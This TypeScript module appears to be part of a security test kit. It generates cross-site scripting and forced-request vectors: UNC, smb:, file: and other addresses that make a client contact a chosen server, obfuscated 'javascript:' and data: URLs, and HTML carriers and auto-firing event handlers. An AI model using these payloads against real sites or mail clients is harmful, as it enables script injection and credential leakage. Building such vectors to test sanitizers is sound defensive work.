/** Addresses that are no web addresses, those that are script, and handlers. */
import { type Carrier, references, SCRIPT, type VectorKind } from "./kit";

/** Addresses that are no web addresses, but reach out all the same. */
export const OTHER_ADDRESSES: readonly (readonly [
  kind: VectorKind,
  name: string,
  write: (server: URL) => string,
])[] = [
  ["UNC path", "file server", ({ host }) => `\\\\${host}\\share\\a.png`],
  ["UNC path", "file server, slashes", ({ host }) => `//${host}/share/a.png`],
  ["UNC path", "file server, mixed", ({ host }) => `/\\${host}\\share/a.png`],
  ["UNC path", "file:", ({ host }) => `file://${host}/share/a.png`],
  ["UNC path", "file: with four slashes", ({ host }) => `file:////${host}/share/a.png`],
  ["UNC path", "device", ({ host }) => `\\\\?\\UNC\\${host}\\share\\a.png`],
  ["UNC path", "device by dots", ({ host }) => `\\\\.\\UNC\\${host}\\share\\a.png`],
  ["UNC path", "web folder", ({ host }) => `\\\\${host}@SSL@443\\DavWWWRoot\\a.png`],
  ["UNC path", "in references", ({ host }) => references(`\\\\${host}\\share\\a.png`)],
  ["UNC path", "smb:", ({ host }) => `smb://${host}/share/a.png`],
  ["other scheme", "ftp:", ({ host }) => `ftp://${host}/a.png`],
  ["other scheme", "web socket", ({ host }) => `ws://${host}/a`],
  ["other scheme", "user and password", ({ host }) => `http://user:pass@${host}/a.png`],
  ["other scheme", "http: with backslashes", ({ host }) => `http:\\\\${host}\\a.png`],
  ["other scheme", "http: with one slash", ({ host }) => `http:/${host}/a.png`],
  ["other scheme", "view-source", ({ href }) => `view-source:${href}`],
  ["other scheme", "feed", ({ href }) => `feed:${href}`],
  [
    "other scheme",
    "blob of another origin",
    ({ origin }) => `blob:${origin}/0b1c2d3e-0000-0000-0000-000000000000`,
  ],
  ["other scheme", "data: html", ({ href }) => `data:text/html,<img src=${href}><script>${SCRIPT}</script>`],
  [
    "other scheme",
    "data: svg",
    ({ href }) =>
      `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'><image href='${href}'/></svg>`,
  ],
];

export const ADDRESS_PLACES: readonly (readonly [string, (url: string) => string])[] = [
  ["img", (url) => `<img src="${url}">`],
  [
    "background",
    (url) =>
      `<table background="${url}"><tr><td style="background: url('${url.replace(/\\/g, "\\\\")}')">x</table>`,
  ],
  ["iframe", (url) => `<iframe src="${url}"></iframe><object data="${url}"></object>`],
];

/** Ways to write "javascript:". */
export const SCRIPT_SCHEMES: readonly string[] = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java&Tab;script:${SCRIPT}`,
  `java&NewLine;script&colon;${SCRIPT}`,
  `&#1;javascript:${SCRIPT}`,
  ` \n javascript:${SCRIPT}`,
  references(`javascript:${SCRIPT}`),
  `&#0000106avascript:${SCRIPT}`,
  `javascript://%0a${SCRIPT}`,
  `vbscript:${SCRIPT}`,
  `data:text/html;base64,${Buffer.from(`<script>${SCRIPT}</script>`).toString("base64")}`,
  `livescript:${SCRIPT}`,
];

export const SCRIPT_PLACES: readonly Carrier[] = [
  ["script", "a", (url) => `<a href="${url}">click</a>`],
  [
    "script",
    "area",
    (url) =>
      `<img usemap="#m" width=9 height=9 src="data:,"><map name=m><area shape=default href="${url}"></map>`,
  ],
  ["form", "form", (url) => `<form action="${url}"><input type=submit autofocus formaction="${url}"></form>`],
  ["frame", "iframe", (url) => `<iframe src="${url}"></iframe>`],
  ["plug-in", "object", (url) => `<object data="${url}"></object><embed src="${url}">`],
  ["SVG", "svg a", (url) => `<svg><a xlink:href="${url}" href="${url}"><text>x</text></a></svg>`],
  ["MathML", "math", (url) => `<math><mtext href="${url}" xlink:href="${url}">x</mtext></math>`],
  ["meta refresh", "meta", (url) => `<meta http-equiv="refresh" content="0; url=${url}">`],
];

export const HANDLERS =
  "onerror onload onclick onfocus onfocusin onmouseover onmouseenter onpointerover onpointerrawupdate onanimationstart " +
  "ontransitionend ontoggle onbeforetoggle onscroll onscrollend onbegin onend onrepeat onstart onfinish onbounce onpageshow " +
  "onhashchange onmessage onresize onbeforeprint oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange onbeforematch";

/** Elements that run handlers by themselves or with a pointer over them. */
export const HANDLER_PLACES: readonly (readonly [string, (handler: string) => string])[] = [
  ["img", (handler) => `<img src=x: ${handler}="${SCRIPT}">`],
  [
    "details and marquee",
    (handler) =>
      `<details open ${handler}=${SCRIPT}><summary>x</summary></details><marquee ${handler}=${SCRIPT}>x</marquee>`,
  ],
  [
    "svg and body",
    (handler) =>
      `<body ${handler}='${SCRIPT}'><svg ${handler}='${SCRIPT}'><animate ${handler}='${SCRIPT}' attributeName=x dur=1s /></svg>`,
  ],
];
